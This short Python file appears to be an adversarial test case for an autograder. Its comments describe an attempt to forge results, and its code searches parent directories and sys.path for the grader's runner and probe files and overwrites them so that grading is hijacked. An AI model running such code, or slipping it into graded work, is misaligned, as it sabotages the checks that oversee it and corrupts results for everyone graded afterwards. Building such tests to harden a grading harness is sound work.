# tries: to rewrite what all children of the lab load: the runner, the probes, their bytecode
# fails: the stage is mounted read-only (or belongs to another user)
# goal: forge
# stopped from: T1
# undefended: harm: to everyone who is graded after it
import os
import sys

CODE = b"raise SystemExit('this was @mark@')\n"


def attack(*arguments, **keywords):
    for top in ("..", *sys.path):
        for folder, folders, files in os.walk(top):
            if "autograder" in folders or "stage" in folders or "runner.py" in files:
                for name in {"runner.py", "wire.py", "probes.py", "__main__.py"} & set(files):
                    overwrite(os.path.join(folder, name))
            folders[:] = [name for name in folders if name in ("stage", "autograder")]
    raise RuntimeError("the stage is ours")


def overwrite(path):
    try:
        with open(path, "r+b") as file:
            file.write(CODE)
    except OSError:
        pass
